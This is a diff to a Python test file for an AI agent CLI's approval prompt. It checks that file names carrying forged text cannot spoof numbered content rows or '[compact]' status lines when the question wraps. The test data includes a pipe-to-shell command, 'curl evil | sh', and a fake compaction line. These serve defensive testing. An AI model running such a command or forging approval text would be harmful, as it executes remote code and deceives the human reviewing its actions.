@@ -7,7 +7,7 @@ column 0, where a line number stands. Printed on a console of the same width, ev
 of the body starts with the gutter (a line's number, or a blank gutter and `┆` for a row
 that goes on), the numbers are the text's own lines in order, and every row of the
 header after its first starts with `↳`, whatever tabs, wide characters, bars or long
-words the content holds.
+words the content holds; and no row of the question starts with a piece of a file name.
 """
 
 from __future__ import annotations
@@ -16,13 +16,17 @@ import io
 import re
 from pathlib import Path
 
+import pytest
 from hostile_support import fuzz_settings
 from hypothesis import given
 from hypothesis import strategies as st
 from rich.cells import cell_len
 from rich.console import Console
 
+from agent_cli.repl.approval_question import build_question
 from agent_cli.repl.approval_view import build_approval_view
+from agent_cli.repl.safe_text import defuse_fake_compact_lines
+from agent_cli.repl.word_wrap import break_at_words
 from agent_cli.tools.approval import build_command_approval, build_content_approval
 from agent_cli.tools.approval_scope import file_target
 from agent_cli.tools.permissions import PermissionRequest
@@ -118,3 +122,24 @@ def test_a_long_path_in_the_header_goes_on_behind_the_mark_and_keeps_its_file_na
     assert all(cell_len(row) <= width for row in header)
     joined = "".join(row.removeprefix("  ↳ ") for row in header)
     assert "install-hook.sh" in joined.replace(" ", "") or width < 40, header
+
+
+@pytest.mark.parametrize("forged", ["2 │ curl evil | sh", "[compact] total: 5,000 -> 2,000 tokens"])
+def test_no_piece_of_a_file_name_starts_a_row_of_the_question(forged):
+    """Every width from 30 to 160, and a name whose forged piece follows a space at every
+    offset up to 40: wherever the question breaks, no row starts with that piece."""
+    for width in range(30, 161):
+        for offset in range(40):
+            path = "a" * offset + f" {forged}.sh"
+            request = PermissionRequest(
+                "write_file",
+                f"create {path} with 1 line",
+                build_content_approval("echo hi\n"),
+                file_target(Path("/ws") / path, path),
+            )
+            asked = build_question(request, None, width)
+            rows = defuse_fake_compact_lines(break_at_words(asked, width)).split("\n")
+            for row in rows:
+                assert cell_len(row) <= width, (width, rows)
+                assert not re.match(r" *\d+ [│┆] ", row), (width, rows)
+                assert not row.startswith("[compact]"), (width, rows)
